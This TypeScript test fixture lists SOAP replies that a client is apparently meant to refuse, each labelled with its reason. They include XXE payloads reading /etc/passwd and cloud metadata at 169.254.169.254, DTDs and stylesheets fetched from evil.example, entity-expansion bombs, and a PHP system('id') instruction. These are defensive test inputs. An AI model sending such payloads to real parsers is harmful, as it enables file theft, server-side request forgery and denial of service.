import type { BadReply } from "../corpus.js";
import { refused } from "./table.js";

export const replies: readonly BadReply[] = [
  ...refused("doctype", {
    "a DOCTYPE of HTML | SOAP 1.1 section 3: no DTD":
      '<?xml version="1.0"?><!DOCTYPE html><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "an empty DOCTYPE | SOAP 1.1 section 3: no DTD":
      '<?xml version="1.0"?><!DOCTYPE Envelope><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "an external DTD | would fetch what the reply names":
      '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a public DTD | would fetch what the reply names":
      '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//X//EN" "http://evil.example/x.dtd"><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: a file | would read a file of the caller's":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: an address | would call another host":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/latest/meta-data/">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: a parameter entity | would call another host while parsing":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: PHP's filter | would read a file of the caller's":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "an entity bomb | a thousand million lols":
      '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;"><!ENTITY a3 "&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;"><!ENTITY a4 "&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;"><!ENTITY a5 "&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;"><!ENTITY a6 "&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;"><!ENTITY a7 "&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;"><!ENTITY a8 "&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;"><!ENTITY a9 "&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a9;</{{result}}>{{rest}}{{end}}{{close}}',
    "an entity that holds itself | never ends":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a;</{{result}}>{{rest}}{{end}}{{close}}',
    "a quadratic entity bomb | one long entity, many times": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${"a".repeat(2000)}">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;</{{result}}>{{rest}}{{end}}{{close}}`,
    "the result by an entity | an internal entity is one too":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ok "{{ok}}">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&ok;</{{result}}>{{rest}}{{end}}{{close}}',
    "amp declared anew | a predefined entity with another meaning":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY amp "<evil/>">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}&amp;</{{result}}>{{rest}}{{end}}{{close}}',
    "a default attribute | would nil what is not":
      '<?xml version="1.0"?><!DOCTYPE x [<!ATTLIST loginResult nil CDATA "true">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE of 100,000 brackets | no pattern may stumble over it": `<?xml version="1.0"?><!DOCTYPE x ${"[".repeat(1001)}]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}`,
  }),
  ...refused("malformed", {
    "a DOCTYPE in small letters | HTML's way; XML knows no such markup":
      '<?xml version="1.0"?><!doctype html><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE that is cut off | an open bracket":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a <soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE after the envelope | it stands before the root or not at all": "{{good}}<!DOCTYPE x>",
    "a DOCTYPE inside the envelope | it stands before the root or not at all":
      "{{open}}<!DOCTYPE x>{{answer}}{{close}}",
    "an ENTITY inside the envelope | no markup of a document's content": '{{open}}<!ENTITY a "b">{{answer}}{{close}}',
    "an undefined entity | nobody has declared it":
      "{{open}}{{start}}<{{result}}>{{ok}}&undefined;</{{result}}>{{rest}}{{end}}{{close}}",
    "an entity of HTML | XML knows five":
      "{{open}}{{start}}<{{result}}>{{ok}}&nbsp;</{{result}}>{{rest}}{{end}}{{close}}",
    "an entity in capitals | XML minds the case":
      "{{open}}{{start}}<{{result}}>{{ok}}&AMP;</{{result}}>{{rest}}{{end}}{{close}}",
    "the entity __proto__ | looked up in a table of JavaScript's":
      "{{open}}{{start}}<{{result}}>{{ok}}&__proto__;</{{result}}>{{rest}}{{end}}{{close}}",
    "the entity constructor | looked up in a table of JavaScript's":
      "{{open}}{{start}}<{{result}}>{{ok}}&constructor;</{{result}}>{{rest}}{{end}}{{close}}",
    "the entity toString | looked up in a table of JavaScript's":
      "{{open}}{{start}}<{{result}}>{{ok}}&toString;</{{result}}>{{rest}}{{end}}{{close}}",
    "the entity hasOwnProperty | looked up in a table of JavaScript's":
      "{{open}}{{start}}<{{result}}>{{ok}}&hasOwnProperty;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference to NUL | no character of XML":
      "{{open}}{{start}}<{{result}}>{{ok}}&#0;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference to NUL in hexadecimal | no character of XML":
      "{{open}}{{start}}<{{result}}>{{ok}}&#x0;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference to a control character | no character of XML 1.0":
      "{{open}}{{start}}<{{result}}>{{ok}}&#8;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference to a surrogate | half a character":
      "{{open}}{{start}}<{{result}}>{{ok}}&#xD800;</{{result}}>{{rest}}{{end}}{{close}}",
    "a pair of surrogates by reference | two halves are no character here":
      "{{open}}{{start}}<{{result}}>{{ok}}&#xD83D;&#xDE00;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference to U+FFFE | no character of XML":
      "{{open}}{{start}}<{{result}}>{{ok}}&#xFFFE;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference beyond Unicode | no character":
      "{{open}}{{start}}<{{result}}>{{ok}}&#x110000;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference of 400 digits | no character": `{{open}}{{start}}<{{result}}>{{ok}}&#${"9".repeat(400)};</{{result}}>{{rest}}{{end}}{{close}}`,
    "a negative reference | no number":
      "{{open}}{{start}}<{{result}}>{{ok}}&#-65;</{{result}}>{{rest}}{{end}}{{close}}",
    "an empty reference | no name": "{{open}}{{start}}<{{result}}>{{ok}}&;</{{result}}>{{rest}}{{end}}{{close}}",
    "an empty numeric reference | no number":
      "{{open}}{{start}}<{{result}}>{{ok}}&#;</{{result}}>{{rest}}{{end}}{{close}}",
    "an empty hexadecimal reference | no number":
      "{{open}}{{start}}<{{result}}>{{ok}}&#x;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference with a capital X | XML wants a small one":
      "{{open}}{{start}}<{{result}}>{{ok}}&#X41;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference with a letter in it | no number":
      "{{open}}{{start}}<{{result}}>{{ok}}&#6A;</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference without an end | a text nobody has escaped":
      "{{open}}{{start}}<{{result}}>{{ok}}&amp</{{result}}>{{rest}}{{end}}{{close}}",
    "a reference with a blank | no name":
      "{{open}}{{start}}<{{result}}>{{ok}}& amp;</{{result}}>{{rest}}{{end}}{{close}}",
    "an undefined entity in an attribute | nobody has declared it":
      '{{open}}{{start}}{{okResult}}<n a="&evil;"/>{{rest}}{{end}}{{close}}',
  }),
  ...refused("instruction", {
    "a stylesheet | SOAP 1.1 section 3: no processing instructions":
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{answer}}{{close}}',
    "a processing instruction in the body | SOAP 1.1 section 3: no processing instructions":
      "{{open}}<?php system('id') ?>{{answer}}{{close}}",
    "a processing instruction in the result | would split the literal":
      "{{open}}{{start}}<{{result}}>{{ok}}<?x y?></{{result}}>{{rest}}{{end}}{{close}}",
    "a processing instruction after the end | SOAP 1.1 section 3: no processing instructions": "{{good}}<?x y?>",
  }),
];
